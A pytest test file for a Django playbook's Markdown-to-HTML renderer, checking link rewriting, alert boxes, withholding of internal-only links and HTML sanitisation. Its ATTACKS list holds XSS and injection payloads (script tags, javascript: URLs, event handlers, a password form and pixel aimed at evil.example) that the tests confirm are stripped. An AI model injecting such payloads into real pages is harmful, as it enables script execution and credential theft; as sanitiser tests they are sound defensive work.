"""Guidance becomes safe HTML, in the dialect of the pages."""

import re
from pathlib import Path

import pytest
from django.conf import settings

from playbook.rendering import render

LINKS = {"assess-acm.md": "/playbook/1/acm/", "Kick-Off.md": "/playbook/1/kick-off/"}


def html(markdown, *, internal=True):
    return render(markdown, links=LINKS, internal=internal)


@pytest.mark.parametrize(
    "href, leads",
    [
        ("assess-acm.md", "/playbook/1/acm/"),
        ("./assess-acm.md#approach", "/playbook/1/acm/"),
        ("../folder/ASSESS-ACM.MD?x=1", "/playbook/1/acm/"),
        ("kick-off.md", "/playbook/1/kick-off/"),
        ("https://aka.ms/deck", "https://aka.ms/deck"),
        ("mailto:acm@example.com", "mailto:acm@example.com"),
    ],
)
def test_links_lead_to_processes_or_outside(href, leads):
    out = html(f"Read [this]({href}).")
    assert f'<a href="{leads}" rel="noopener noreferrer">this</a>' in out


@pytest.mark.parametrize("href", ["nowhere.md", "media/x.png", "#approach", "../other/"])
def test_a_link_that_leads_nowhere_keeps_its_words(href):
    assert html(f"Read [this]({href}).") == "<p>Read this.</p>\n"


@pytest.mark.parametrize(
    "marker",
    ["> [!NOTE]", "> [!Note]", "> [!note]", ">[!NOTE]", "> [!TIP]", "> [!IMPORTANT]", "> [!Important]", "> [!Warning]"],
)
def test_alerts_in_every_casing_become_notices(marker):
    word = re.search(r"\w+", marker)[0].lower()
    out = html(f"{marker}\n> Ask the account team.\n>\n> Twice.")
    assert f'<div class="alert alert-{word}">' in out
    assert f'<p class="alert-title">{word.capitalize()}</p>' in out
    assert "<p>Ask the account team.</p>" in out
    assert "[!" not in out
    assert "blockquote" not in out


def test_an_alert_on_one_line_and_an_alert_that_is_a_list():
    assert "<p>Ask first.</p>" in html("> [!NOTE] Ask first.")
    out = html("> [!NOTE]\n>\n> - one\n> - two")
    assert '<p class="alert-title">Note</p>\n<ul>' in out


def test_an_alert_for_microsoft_staff_is_not_there_for_anybody_else():
    page = "> [!TIP]\n> Ask.\n\n> [!INTERNAL]\n> The [list](https://x.example).\n>\n> > Quoted\n\n> [!Note]\n> Later."
    assert '<div class="alert alert-internal">\n<p class="alert-title">For Microsoft staff</p>' in html(page)
    out = html(page, internal=False)
    assert "<p>Ask.</p>" in out
    assert "<p>Later.</p>" in out
    for word in ("INTERNAL", "Microsoft staff", "list", "x.example", "Quoted"):
        assert word not in out


def test_a_quotation_stays_one():
    assert "<blockquote>" in html("> As they say.")


def test_task_boxes_go():
    out = html("- [ ] Send the plan\n- [x] **Agree** it\n\n1. [ ] Note it\n\n[ ] stays in running text")
    assert re.findall(r"<li>(.*?)</li>", out) == ["Send the plan", "<strong>Agree</strong> it", "Note it"]
    assert "[ ] stays" in out


def test_include_lines_go():
    assert html("[!INCLUDE [Feedback](../includes/feedback.md)]\n\nText") == "<p>Text</p>\n"
    assert html("  [!Include[x](y.md)]\nText") == "<p>Text</p>\n"


def test_marks_become_tags():
    tag = '<span class="tag">Internal only</span>'
    link = '<a href="https://aka.ms/x" rel="noopener noreferrer">Deck</a>'
    assert f"{link} {tag}" in html("See [Deck (Internal Only)](https://aka.ms/x).")
    assert f"{link} {tag}." in html("See [Deck](https://aka.ms/x) (Internal Only).")
    assert 'the kit <span class="tag">Customer ready</span> first' in html("Send the kit (Customer Ready) first")
    assert '<span class="tag">Customer ready</span>' in html("[Kit (customer ready)](https://aka.ms/k)")


def test_internal_links_are_withheld_from_other_readers():
    for text in ("[Deck (Internal Only)](https://aka.ms/x)", "[Deck](https://aka.ms/x) (Internal Only)"):
        out = html(f"See {text} and [Kit (Customer Ready)](https://aka.ms/k).", internal=False)
        assert "aka.ms/x" not in out
        assert "a link for Microsoft staff" in out
        assert "aka.ms/k" in out


def test_tables_carry_no_styles_and_images_only_their_words():
    out = html("| a | b |\n| :---: | --- |\n| 1 | ![drawing](media/x.png) |")
    assert "<td>1</td>" in out
    assert "style" not in out
    assert "<img" not in out
    assert "drawing" in out


def test_headings_start_below_the_title_of_the_page():
    assert html("# Title") == "<h2>Title</h2>\n"


def test_of_raw_html_only_words_and_line_breaks_stay():
    assert html("one<br/>two <b>three</b>") == "<p>one<br>two three</p>\n"
    assert "/secret" not in html('<a href="/secret">Deck (Internal Only)</a>', internal=False)
    assert html("<p>one</p>").strip() == "one"


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#x6A;avascript:alert(1)">x</a>',
    '<p style="position:fixed" onclick="alert(1)">x</p>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<iframe src=https://evil.example></iframe>",
    "<style>*{display:none}</style>",
    "<form action=https://evil.example><input name=password><button>x</button></form>",
    "<math><mtext></p><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<div class="toast b-main modal">x</div>',
    "![x](https://evil.example/pixel.png)",
    '![x" onerror="alert(1)](x.png)',
    "[a](https://x.example 'title\" onmouseover=\"alert(1)')",
    "> [!NOTE]\n> <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    '[Deck (Internal Only)](https://x.example"onclick=alert(1))',
    "<a href=https://x.example target=_blank hx-get=/x data-key=c>x</a>",
    "<!-- --><script>alert(1)</script>",
]


@pytest.mark.parametrize(
    "text",
    [
        "[**Deck (Internal Only)**](https://aka.ms/x)",
        "**[Deck](https://aka.ms/x)** (Internal Only)",
        "[Deck (internal only) ](https://aka.ms/x)",
        "[![Deck (Internal Only)](media/deck.png)](https://aka.ms/x)",
    ],
)
def test_marks_are_seen_through_emphasis_and_images(text):
    assert "aka.ms/x" not in html(text, internal=False)
    assert '<span class="tag">Internal only</span>' in html(text)


@pytest.mark.parametrize("internal", [True, False])
@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_acts_comes_through(attack, internal):
    out = html(attack, internal=internal)
    tags = re.findall(r"<[^>]*>", out)
    elements = "script|style|img|svg|iframe|form|input|button|details|base|meta|math"
    forbidden = rf"<({elements})|\son\w+=|style=|target=|hx-|data-|title="
    assert not [tag for tag in tags if re.search(forbidden, tag, re.IGNORECASE)]
    assert not re.search(r'href="\s*(javascript|data|vbscript)', out, re.IGNORECASE)
    assert not re.search(r'class="[^"]*(toast|modal|b-main)', out)


@pytest.mark.parametrize("internal", [True, False])
def test_the_bundled_pages_render_whole(internal):
    for page in sorted(Path(settings.BASE_DIR, "fixtures/playbook").glob("*.md")):
        out = html(page.read_text(), internal=internal)
        assert "[!" not in out, page.name
        assert "style=" not in out, page.name
        assert "(Internal Only)" not in out, page.name
        assert out.count("<table") == out.count("</table>")
